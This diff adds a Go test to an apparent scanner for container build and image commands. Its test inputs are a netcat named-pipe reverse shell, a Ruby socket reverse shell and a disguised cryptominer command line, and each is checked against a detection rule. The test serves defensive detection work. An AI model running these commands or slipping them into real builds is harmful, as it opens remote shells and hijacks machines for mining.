@@ -168,3 +168,20 @@ func TestOldSamples(t *testing.T) {
 		t.Logf("%s:\n%s", name, dump(fs))
 	}
 }
+
+// Build steps and the image's command: a named pipe written late in the line is read early
+// (the passes files get), miners by their command line.
+func TestConfigCommands(t *testing.T) {
+	for _, tt := range []struct{ code, want string }{
+		{"rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f", RuleFifo},
+		{"'/usr/bin/kswapd0' '-o' 'pool.example.org:443' '-u' '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A' '-k'", RuleMinerCommand},
+		{"ruby -rsocket -e'spawn(\"sh\",[:in,:out,:err]=>TCPSocket.new(\"203.0.113.9\",4444))'", RuleRuby},
+		{"apt-get update && apt-get install -y curl && curl -o /tmp/x -u me:pw https://repo.example.org/x", ""},
+	} {
+		fs := configFindings(tt.code)
+		got := strings.Join(rules(fs), " ")
+		if got != tt.want {
+			t.Errorf("%s: rules %q, want %q\n%s", tt.code, got, tt.want, dump(fs))
+		}
+	}
+}
